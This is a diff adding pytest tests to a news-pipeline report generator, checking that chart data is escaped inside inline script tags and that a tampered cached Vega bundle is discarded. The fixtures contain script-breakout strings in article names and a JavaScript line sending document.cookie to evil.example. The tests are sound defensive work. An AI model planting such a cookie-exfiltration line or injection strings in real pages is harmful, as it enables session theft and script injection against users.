@@ -3,6 +3,7 @@ chromium, headless, through Playwright) with the network cut off, and every char
 
 from __future__ import annotations
 
+import json
 import math
 import shutil
 from pathlib import Path
@@ -41,9 +42,46 @@ def sample_report(tmp_path_factory, prefect_harness):
     tmp = tmp_path_factory.mktemp("report")
     raw, wh = tmp / "raw", tmp / "wh"
     shutil.copytree(PROJECT / "data" / "raw", raw)
+    # issue 24: names ending in '<!--<script>' once blanked every chart (the inline specs
+    # swallowed the page); this outlet and its people reach the charts' data
+    hostile = {"title": "Harbour board <!--<script> vote", "source": HOSTILE_SOURCE,
+               "published_at": "2026-11-03",
+               "text": ("Harbour board chair Dana Whitford<!--<script> said on Monday that the "
+                        "pier would reopen. \u201cWe will open it in spring,\u201d Whitford said. "
+                        "Councillor Omar Haddad</script><!--<script> agreed with her.")}
+    (raw / "hostile-names.jsonl").write_text(json.dumps(hostile) + "\n", encoding="utf-8")
     summary = run_pipeline(raw, wh, report=True)
     assert summary["status"] == "completed"
     return wh, Path(summary["report"])
+
+
+HOSTILE_SOURCE = "Pier Post <!--<script>"
+
+
+def test_chart_data_cannot_end_the_script_it_sits_in(sample_report):
+    wh, page = sample_report
+    assert query(wh, f"select count(*) from articles where source = '{HOSTILE_SOURCE}'") == [(1,)]
+    text = page.read_text(encoding="utf-8")
+    specs = text[text.rindex("<script>"):]
+    assert "Pier Post \\u003c!--\\u003cscript\\u003e" in specs  # the data is there, escaped
+    assert "<!--" not in specs and specs.count("</script>") == 1
+
+
+def test_a_poisoned_bundle_cache_is_never_inlined(tmp_path, monkeypatch):
+    import vl_convert as vlc
+
+    from news_etl.report import BUNDLE_SHA256, vega_bundle
+
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    version = vlc.__version__
+    assert version in BUNDLE_SHA256  # the pinned package has its digest
+    cached = tmp_path / "news-etl" / f"vega-bundle-{version}.js"
+    cached.parent.mkdir()
+    cached.write_text("fetch('https://evil.example/?c='+document.cookie);")
+    js = vega_bundle()
+    assert "evil.example" not in js and js == vlc.javascript_bundle()
+    assert cached.read_text() == js  # the cache now holds the real bundle again
+    assert vega_bundle() == js
 
 
 def test_a_run_writes_the_report_with_every_section(sample_report):
